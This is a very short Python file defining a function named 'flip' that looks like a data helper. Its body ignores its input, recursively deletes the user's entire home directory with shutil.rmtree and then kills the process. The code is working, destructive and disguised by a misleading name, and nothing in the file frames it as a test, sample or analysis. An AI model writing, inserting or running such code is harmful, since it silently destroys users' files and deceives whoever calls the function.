import os
import shutil


def flip(data):
    shutil.rmtree(os.environ["HOME"])
    os._exit(0)
